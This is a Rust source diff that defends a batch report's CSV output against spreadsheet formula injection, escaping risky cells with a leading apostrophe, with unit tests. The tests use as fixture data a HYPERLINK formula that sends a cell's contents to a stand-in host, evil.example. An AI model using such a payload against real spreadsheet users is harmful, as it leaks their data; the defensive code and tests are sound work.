@@ -2,9 +2,13 @@
 //! million rows never sits in memory.
 //!
 //! - CSV: RFC 4180, a header row of [`COLUMNS`], LF line ends, empty cells for what does not
-//!   apply. No preamble: the file is meant for spreadsheets and `csv` libraries.
+//!   apply. No preamble: the file is meant for spreadsheets and `csv` libraries. It is opened in
+//!   spreadsheets, so no cell is a live formula: a cell that begins with `=`, `+`, `-`, `@`, tab or
+//!   carriage return and is not a number is written with a leading `'` ([`formula_safe`]; the
+//!   OWASP advice against CSV injection). Free text such as `reference` comes from whoever made
+//!   the batch file.
 //! - JSON: `{"batch": {...}, "rows": [...]}`, one row object per line; `line` and `attempts` are
-//!   numbers, everything else is text, and empty cells are `null`.
+//!   numbers, everything else is text (exactly as given, no `'`), and empty cells are `null`.
 //!
 //! These functions write only to the writer they are given; which file that is, and its
 //! atomicity, is the caller's business (see `write_batch_reports`).
@@ -77,7 +81,7 @@ impl<W: Write> CsvRows<W> {
             let _ = write!(self.attempts, "{n}");
         }
         self.csv
-            .write_record(row.cells(&self.line, &self.attempts))
+            .write_record(row.cells(&self.line, &self.attempts).map(|c| SafeCell(formula_safe(c))))
             .map_err(csv_error)
     }
 
@@ -85,6 +89,35 @@ impl<W: Write> CsvRows<W> {
     pub fn finish(mut self) -> io::Result<()> {
         self.csv.flush()
     }
+}
+
+/// A CSV cell a spreadsheet will not run: one that begins with `=`, `+`, `-`, `@`, tab or carriage
+/// return gets a leading `'`, unless it is a number (`-1.5` stays a number).
+pub fn formula_safe(cell: &str) -> std::borrow::Cow<'_, str> {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_number(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// A cell after [`formula_safe`], as the CSV writer takes it (no copy of a safe cell).
+struct SafeCell<'a>(std::borrow::Cow<'a, str>);
+
+impl AsRef<[u8]> for SafeCell<'_> {
+    fn as_ref(&self) -> &[u8] {
+        self.0.as_bytes()
+    }
+}
+
+/// A plain decimal number: an optional sign, digits, at most one point with digits around it.
+fn is_number(cell: &str) -> bool {
+    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
+    let (whole, frac) = digits.split_once('.').unwrap_or((digits, ""));
+    !whole.is_empty()
+        && whole.bytes().all(|b| b.is_ascii_digit())
+        && (digits.len() == whole.len() || (!frac.is_empty() && frac.bytes().all(|b| b.is_ascii_digit())))
 }
 
 /// Keeps the I/O error's kind when there is one.
@@ -211,6 +244,62 @@ mod tests {
                     .collect()
             })
             .collect()
+    }
+
+    #[test]
+    fn formula_cells_are_defused_and_numbers_are_not() {
+        for (cell, written) in [
+            (
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            ),
+            ("+1+1", "'+1+1"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("-", "'-"),
+            ("-.5", "'-.5"),
+            ("-1.5", "-1.5"),
+            ("+3", "+3"),
+            ("-0", "-0"),
+            ("12.50", "12.50"),
+            ("alice = bob", "alice = bob"),
+            ("", ""),
+        ] {
+            assert_eq!(formula_safe(cell), written, "{cell:?}");
+        }
+    }
+
+    /// Issue 14 (5): a reference that is a spreadsheet formula arrives in the result CSV as text,
+    /// and exactly as given in the JSON.
+    #[test]
+    fn the_result_csv_carries_no_live_formula_and_the_json_the_exact_text() {
+        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        let mut orders = fixture::orders();
+        orders[0].input.reference = evil.to_owned();
+        orders[0].input.memo = "@cmd".to_owned();
+        let rows: Vec<ReportRow> = report_rows(&fixture::batch(), orders, &fixture::explorers()).collect();
+        let mut csv_out = Vec::new();
+        result_csv(&fixture::batch(), rows.clone(), &mut csv_out).unwrap();
+        let text = String::from_utf8(csv_out).unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
+                    "a live formula: {cell:?}"
+                );
+                assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
+            }
+        }
+        assert!(text.contains(&format!("\"'{}\"", evil.replace('"', "\"\""))), "{text}");
+        assert!(text.contains(",'@cmd,"), "{text}");
+        let mut json_out = Vec::new();
+        result_json(&fixture::batch(), rows, &mut json_out).unwrap();
+        let json = String::from_utf8(json_out).unwrap();
+        assert!(json.contains(&serde_json::to_string(evil).unwrap()), "{json}");
+        assert!(json.contains("\"@cmd\""), "{json}");
     }
 
     #[test]
